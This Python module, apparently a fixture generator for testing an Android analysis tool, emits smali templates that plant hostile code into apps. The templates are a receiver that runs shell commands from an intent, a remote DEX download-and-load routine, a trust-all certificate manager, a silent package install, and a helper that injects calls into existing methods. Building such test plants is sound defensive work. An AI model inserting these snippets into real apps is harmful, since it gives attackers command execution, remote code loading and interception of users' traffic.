"""Texts of code that plants put into apps."""

INIT = """
.method public constructor <init>()V
    .registers 1
    invoke-direct {{p0}}, {parent}-><init>()V
    return-void
.end method
"""


def a_class(name, parent, *methods, fields="", interfaces=()):
    """name and parent as dotted names."""
    parent = f"L{parent.replace('.', '/')};"
    implements = "".join(f".implements L{one.replace('.', '/')};\n" for one in interfaces)
    return f".class public L{name.replace('.', '/')};\n.super {parent}\n{implements}\n{fields}\n{INIT.format(parent=parent)}\n" + "\n".join(methods)


def receiver(name, body, registers=8):
    """p1 is the context, p2 the intent."""
    return a_class(name, "android.content.BroadcastReceiver", f"""
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers {registers + 3}
    :start
{body}
    :end
    .catch Ljava/lang/Throwable; {{:start .. :end}} :failed
    :out
    return-void
    :failed
    move-exception v0
    goto :out
.end method
""")


def static_method(name, shape, body, registers=8):
    return f"""
.method public static {name}{shape}
    .registers {registers}
{body}
.end method
"""


RUN_EXTRA = """
    const-string v0, "c"
    invoke-virtual {p2, v0}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {}, Ljava/lang/Runtime;->getRuntime()Ljava/lang/Runtime;
    move-result-object v1
    invoke-virtual {v1, v0}, Ljava/lang/Runtime;->exec(Ljava/lang/String;)Ljava/lang/Process;
"""

# p0: an address. Reads what is there and throws it away: enough to be a request.
ASK = """
    new-instance v0, Ljava/net/URL;
    invoke-direct {v0, p0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    invoke-virtual {v0}, Ljava/net/URLConnection;->getInputStream()Ljava/io/InputStream;
    move-result-object v0
    invoke-virtual {v0}, Ljava/io/InputStream;->read()I
    return-void
"""

# p0: the context, p1: an address. Fetches a DEX into the app's folder and loads a class of it.
LOAD_DEX = """
    new-instance v0, Ljava/net/URL;
    invoke-direct {v0, p1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openStream()Ljava/io/InputStream;
    move-result-object v0
    const-string v1, "cache.dat"
    const/4 v2, 0x0
    invoke-virtual {p0, v1, v2}, Landroid/content/Context;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;
    move-result-object v2
    const/16 v3, 0x1000
    new-array v3, v3, [B
    :again
    invoke-virtual {v0, v3}, Ljava/io/InputStream;->read([B)I
    move-result v4
    if-lez v4, :all
    const/4 v5, 0x0
    invoke-virtual {v2, v3, v5, v4}, Ljava/io/FileOutputStream;->write([BII)V
    goto :again
    :all
    invoke-virtual {v2}, Ljava/io/FileOutputStream;->close()V
    invoke-virtual {p0, v1}, Landroid/content/Context;->getFileStreamPath(Ljava/lang/String;)Ljava/io/File;
    move-result-object v0
    invoke-virtual {v0}, Ljava/io/File;->getAbsolutePath()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {p0}, Landroid/content/Context;->getCacheDir()Ljava/io/File;
    move-result-object v2
    invoke-virtual {v2}, Ljava/io/File;->getAbsolutePath()Ljava/lang/String;
    move-result-object v2
    const/4 v3, 0x0
    invoke-virtual {p0}, Landroid/content/Context;->getClassLoader()Ljava/lang/ClassLoader;
    move-result-object v4
    new-instance v0, Ldalvik/system/DexClassLoader;
    invoke-direct {v0, v1, v2, v3, v4}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V
    const-string v1, "m.Main"
    invoke-virtual {v0, v1}, Ljava/lang/ClassLoader;->loadClass(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v0
    invoke-virtual {v0}, Ljava/lang/Class;->newInstance()Ljava/lang/Object;
    return-void
"""

TRUST_ALL = """
.method public checkClientTrusted([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V
    .registers 3
    return-void
.end method

.method public checkServerTrusted([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V
    .registers 3
    return-void
.end method

.method public getAcceptedIssuers()[Ljava/security/cert/X509Certificate;
    .registers 2
    const/4 v0, 0x0
    new-array v0, v0, [Ljava/security/cert/X509Certificate;
    return-object v0
.end method
"""

# p0: the context, p1: a path. Installs a package without asking.
INSTALL = """
    invoke-virtual {p0}, Landroid/content/Context;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v0
    invoke-virtual {v0}, Landroid/content/pm/PackageManager;->getPackageInstaller()Landroid/content/pm/PackageInstaller;
    move-result-object v0
    new-instance v1, Landroid/content/pm/PackageInstaller$SessionParams;
    const/4 v2, 0x1
    invoke-direct {v1, v2}, Landroid/content/pm/PackageInstaller$SessionParams;-><init>(I)V
    invoke-virtual {v0, v1}, Landroid/content/pm/PackageInstaller;->createSession(Landroid/content/pm/PackageInstaller$SessionParams;)I
    move-result v1
    invoke-virtual {v0, v1}, Landroid/content/pm/PackageInstaller;->openSession(I)Landroid/content/pm/PackageInstaller$Session;
    move-result-object v0
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Landroid/content/pm/PackageInstaller$Session;->commit(Landroid/content/IntentSender;)V
    return-void
"""


def called_first(text, method, call):
    """The text of a class with an instruction put at the start of a method; method: how its declaration begins after the flags, e.g. `onReceive(`."""
    lines, out, inside = text.split("\n"), [], False
    done = False
    for line in lines:
        out.append(line)
        if line.startswith(".method") and f" {method}" in line and not done:
            inside = True
        elif inside and line.strip().startswith((".registers", ".locals")):
            out.append(call)
            inside, done = False, True
    return "\n".join(out)
